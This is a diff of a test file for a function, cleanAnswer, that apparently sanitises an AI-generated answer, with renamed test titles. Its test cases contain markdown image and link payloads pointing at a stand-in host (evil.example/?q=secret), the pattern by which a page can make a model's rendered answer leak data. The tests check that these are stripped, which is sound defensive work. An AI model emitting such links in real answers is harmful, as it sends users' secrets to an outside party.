@@ -32,7 +32,7 @@ describe('markers', () => {
   });
 });
 
-describe('what a page could smuggle out', () => {
+describe('data that a page could exfiltrate', () => {
   it.each([
     ['Hi ![x](https://evil.example/?q=secret) there.', 'Hi  there.'],
     ['Click [here](https://evil.example/?q=secret).', 'Click here.'],
@@ -49,7 +49,7 @@ describe('what a page could smuggle out', () => {
   });
 });
 
-it('whatever is written, every number in brackets is a source, and nothing is left to do', () => {
+it('for any text, every number in brackets is a source, and cleaning is idempotent', () => {
   const piece = fc.oneof(
     fc.string(),
     fc.constantFrom(
@@ -83,7 +83,7 @@ it('whatever is written, every number in brackets is a source, and nothing is le
   );
 });
 
-it('bears hostile length', () => {
+it('handles hostile lengths', () => {
   for (const text of ['[', '[1', '![', '](', '<a', ' ', '[1](', 'https://', ')', '[1,'].values()) {
     expect(cleanAnswer(text.repeat(100_000), SOURCES).length).toBeLessThanOrEqual(20_000);
   }
